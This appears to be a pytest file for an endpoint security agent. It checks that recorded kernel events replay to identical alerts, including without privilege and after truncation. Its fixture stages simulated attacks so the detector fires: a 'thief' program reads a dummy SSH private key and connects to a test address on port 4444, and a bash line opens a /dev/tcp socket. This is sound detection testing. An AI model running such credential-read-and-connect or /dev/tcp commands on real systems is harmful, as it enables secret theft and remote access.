"""Recordings: what was recorded on a real kernel gives the same alerts anywhere."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.kernel.endpoint import ROOT, endpoint
from tests.kernel.workload import ADDRESS, NOBODY, Island, copy_as, run
from tests.shipped import shipped_for_all

AS_NOBODY = """
import os, sys
from actors.agent import command
from actors.agent.__main__ import main
import trio, structlog.dev, traceback, encodings.idna  # imported while we may still read them
user = int(sys.argv[1])
os.setgroups([]); os.setresgid(user, user, user); os.setresuid(user, user, user)
sys.exit(main(["--replay", sys.argv[2]]))
"""


@pytest.fixture(scope="module")
def recorded(programs: Path, doer: Path, net: Island) -> tuple[Path, list[bytes], list[bytes]]:
    """A recording with every kind of alert, and the alert and event lines of that run."""
    folder = programs / "recorded"
    folder.mkdir()
    secret = folder / ".ssh" / "id_rsa"
    secret.parent.mkdir()
    secret.touch()
    record = folder / "recording"
    with endpoint(record=record, LAVENDER_FILTERS__OPEN_EVENTS="all") as running:
        thief = copy_as(doer, folder, "thief")
        theft = ("open", secret, "connect", ADDRESS, "4444")
        run(*net.enter, thief, *theft, "exec", "/bin/sh", "-c", "")
        run(*net.enter, "/bin/bash", "-c", f"exec 3<>/dev/tcp/{ADDRESS}/1; sh -c ': eval x'")
        run(thief, *["run", str(thief), "exit", "0", "+"] * 6)
        run("/usr/bin/true", b"\xff\n\x1b")
        running.settle()
        assert running.stop() == 0
        assert running.stopped()["dropped_by_actors"] == 0
    record.chmod(0o644)
    return record, running.alert_lines, running.stdout_lines


def replay(record: Path, *prefix: str) -> tuple[int, list[bytes], list[bytes]]:
    words = prefix or (sys.executable, "-m", "actors.agent", "--replay", str(record))
    environment = {**os.environ, "LAVENDER_CONFIG": str(shipped_for_all())}
    done = subprocess.run(
        words, cwd=ROOT, env=environment, capture_output=True, check=False, timeout=60
    )
    alerts = [line for line in done.stderr.splitlines(keepends=True) if b'"type":"alert"' in line]
    return done.returncode, alerts, done.stdout.splitlines(keepends=True)


def test_a_replay_gives_the_same_lines_byte_for_byte(
    recorded: tuple[Path, list[bytes], list[bytes]],
) -> None:
    record, alerts, events = recorded
    code, replayed, shown = replay(record)
    assert code == 0
    assert len(alerts) >= 9
    assert replayed == alerts
    assert shown == events


def test_a_replay_needs_no_privilege(recorded: tuple[Path, list[bytes], list[bytes]]) -> None:
    record, alerts, _ = recorded
    code, replayed, _ = replay(record, sys.executable, "-c", AS_NOBODY, str(NOBODY), str(record))
    assert code == 0
    assert replayed == alerts


def test_replays_do_not_exclude_each_other_or_an_agent(
    recorded: tuple[Path, list[bytes], list[bytes]],
) -> None:
    record, alerts, _ = recorded
    with endpoint("--output", "none") as running:
        code, replayed, _ = replay(record)
        assert running.stop() == 0
    assert (code, replayed) == (0, alerts)


def test_a_recording_cut_short_by_a_crash_replays_to_where_it_ends(
    recorded: tuple[Path, list[bytes], list[bytes]], tmp_path: Path
) -> None:
    record, alerts, _ = recorded
    cut = tmp_path / "cut"
    cut.write_bytes(record.read_bytes()[:-20])
    code, replayed, _ = replay(cut)
    assert code == 0
    assert replayed == alerts[: len(replayed)]


def test_what_is_no_recording_has_its_own_exit_code(tmp_path: Path) -> None:
    for content in (b"", b"hello\n", b"\xff\xfe\n", b'{"lavender_recording": 99}\n'):
        (tmp_path / "x").write_bytes(content)
        code, _, _ = replay(tmp_path / "x")
        assert code == 8
